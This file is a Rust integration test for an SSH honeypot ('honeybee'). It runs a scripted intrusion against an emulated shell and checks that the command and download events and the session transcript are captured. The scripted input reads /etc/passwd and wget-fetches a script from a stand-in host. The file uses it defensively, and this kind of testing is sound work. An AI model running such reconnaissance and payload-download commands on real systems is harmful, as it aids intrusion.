//! The emulated shell end to end: a real core and agent, OpenSSH's client runs the
//! scripted intrusion (`uname -a; cat /etc/passwd; wget http://x/y.sh`) as an exec
//! request; its command and download events reach `honeybee events --json`, and its
//! asciicast transcript reaches `honeybee captures --json` and `honeybee capture get`.

mod common;
use common::*;
use serde_json::Value;
use std::process::Command;
use std::time::Duration;

const SCRIPT: &str = "uname -a; cat /etc/passwd; wget http://x/y.sh";

#[test]
fn scripted_ssh_session_reaches_events_and_captures() {
    assert!(
        have("ssh") && have("sshpass"),
        "this test needs OpenSSH's ssh and sshpass (.ci/run installs them)"
    );
    let mut dep = Deployment::init(|t| {
        // The SSH persona lets everyone in at once.
        assert!(t.contains("kind = \"ssh\"\n"), "{t}");
        t.replace("kind = \"ssh\"\n", "kind = \"ssh\"\nlogin = \"always\"\n")
    });
    dep.start_core();
    let _agent = dep.start_agent("shell-1");
    let port = dep.service_port("shell-1", "ssh");

    let out = Command::new("sshpass")
        .args(["-p", "toor", "ssh", "-p", &port.to_string()])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
            "-o",
            "PreferredAuthentications=password",
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "ConnectTimeout=10",
            "root@127.0.0.1",
            SCRIPT,
        ])
        .output()
        .expect("run ssh");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(4), "{out:?}");
    assert!(
        stdout.contains("GNU/Linux\nroot:x:0:0:root:/root:/bin/bash\n"),
        "{stdout}"
    );

    let command = wait_for("the command event", Duration::from_secs(30), || {
        dep.events(&["--kind", "command", "--node", "shell-1"])
            .into_iter()
            .next()
    });
    let session = command["session"]["id"].as_str().unwrap().to_owned();
    let all: Vec<Value> = wait_for(
        "the session's capture event",
        Duration::from_secs(30),
        || {
            let evs: Vec<Value> = dep
                .events(&["--node", "shell-1", "--service", "ssh"])
                .into_iter()
                .filter(|e| e["session"]["id"] == session.as_str())
                .collect();
            evs.iter()
                .any(|e| e["event"]["action"] == "capture")
                .then_some(evs)
        },
    );
    let action =
        |a: &str| -> Vec<&Value> { all.iter().filter(|e| e["event"]["action"] == a).collect() };
    let text = serde_json::to_string(&all).unwrap();
    assert_eq!(action("command").len(), 1, "{text}");
    assert!(
        text.contains(SCRIPT),
        "the command line is recorded whole: {text}"
    );
    assert_eq!(action("download").len(), 1, "{text}");
    assert!(text.contains("http://x/y.sh"), "{text}");
    let attempt = action("auth_attempt")
        .into_iter()
        .find(|e| e["honeybee"]["method"] == "password")
        .expect("password attempt");
    assert_eq!(attempt["honeybee"]["success"], true);

    // The transcript, listed and fetched through the CLI, replays the session.
    let d = dep.d();
    let row = wait_for(
        "the transcript at the core",
        Duration::from_secs(60),
        || {
            let listed: Value =
                serde_json::from_str(&ok(&["captures", "--json", "--data-dir", &d])).ok()?;
            listed
                .as_array()?
                .iter()
                .find(|c| c["kind"] == "transcript" && c["node"] == "shell-1")
                .cloned()
        },
    );
    assert_eq!(row["service"], "ssh");
    assert!(
        text.contains(row["sha256"].as_str().unwrap()),
        "capture event names the hash"
    );
    let sha = row["sha256"].as_str().unwrap().to_owned();
    let file = dep.dir.path().join("transcript.cast");
    ok(&[
        "capture",
        "get",
        &sha,
        "-o",
        file.to_str().unwrap(),
        "--data-dir",
        &d,
    ]);
    let cast = std::fs::read_to_string(&file).unwrap();
    let mut lines = cast.lines();
    let header: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    let records: Vec<Value> = lines.map(|l| serde_json::from_str(l).unwrap()).collect();
    let stream = |code: &str| -> String {
        records
            .iter()
            .filter(|r| r[1] == code)
            .map(|r| r[2].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(stream("i"), format!("{SCRIPT}\n"));
    let output = stream("o");
    assert!(
        output.contains(" 6.1.0-") && output.contains("-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1."),
        "{output}"
    );
    assert!(
        output.contains("root:x:0:0:root:/root:/bin/bash"),
        "{output}"
    );
    assert!(
        output.contains("wget: unable to resolve host address 'x'"),
        "{output}"
    );
}

// ---- the same tests on a PostgreSQL store (`common::on_postgres`: same body, a
// database of its own on this test binary's PostgreSQL server)

#[test]
fn scripted_ssh_session_reaches_events_and_captures_on_postgres() {
    on_postgres(scripted_ssh_session_reaches_events_and_captures);
}
